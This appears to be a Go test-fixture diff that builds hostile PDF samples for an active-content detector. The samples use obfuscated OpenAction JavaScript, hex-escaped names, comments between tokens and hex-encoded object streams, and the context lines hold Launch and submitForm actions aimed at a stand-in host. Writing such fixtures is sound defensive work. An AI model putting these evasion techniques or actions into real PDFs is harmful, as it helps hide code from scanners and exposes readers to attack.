@@ -25,6 +25,13 @@ func activePDFs() []Entry {
 			packed: true, page: "/Annots[7 0 R]",
 			objects: []string{"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</Type/Action/S/#4caunch/F(\\\\\\\\10.0.0.1\\\\a\\\\x.exe)>>>>"},
 		}), active),
+		hostile("carte.pdf", "the word that tells is an object of its own", made(pdf{
+			catalog: "/OpenAction 7 0 R", objects: []string{"<</S 8 0 R/JS(app.alert\\(1\\))>>", "/JavaScript"},
+		}), active),
+		hostile("carte 2.pdf", "comments and line ends between the words", made(pdf{
+			catalog: "/OpenAction%x\r7 0 R", objects: []string{"<<%>>\n/S%/GoTo\r/Java#53cript\f/JS\x00(app.alert\\(1\\))>>"},
+		}), active),
+		hostile("carte 3.pdf", "the object stream is in hexadecimal, too", hexed, active),
 		hostile("avis.pdf", "JavaScript when the page is shown", made(pdf{
 			page: "/AA<</O " + script(`this.submitForm\("http://malin.example/"\);`) + ">>",
 		}), active),
@@ -66,4 +73,20 @@ func activePDFs() []Entry {
 			"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"+
 				"3 0 obj<</S /JavaScript /JS (app.launchURL\\(\"http://malin.example\"\\))>>endobj\ntrailer<</Root 1 0 R>>\n"), active),
 	}
+}
+
+// hexed is a PDF whose action lies in an object stream that is packed, then written in hexadecimal (7.4.2).
+func hexed() []byte {
+	const action = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
+	stream := streamOf("/Type/ObjStm/N 1/First 5/Filter[/ASCIIHexDecode/FlateDecode]", []byte(hexOf(zlibbed([]byte("10 0 "+action)))+">"))
+	head := "%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction 10 0 R>>\nendobj\n"
+	pages := "2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
+	three := "3 0 obj\n" + stream + "\nendobj\n"
+	at := len(head) + len(pages) + len(three)
+	row := func(kind byte, where int, third byte) []byte {
+		return []byte{kind, byte(where >> 8), byte(where), third}
+	}
+	rows := join(row(0, 0, 255), row(1, 9, 0), row(1, len(head), 0), row(1, len(head)+len(pages), 0), row(1, at, 0), row(2, 3, 0))
+	xref := "4 0 obj\n" + flated("/Type/XRef/Size 11/W[1 2 1]/Index[0 5 10 1]/Root 1 0 R", rows) + "\nendobj\n"
+	return []byte(head + pages + three + xref + "startxref\n" + digits(at) + "\n%%EOF\n")
 }
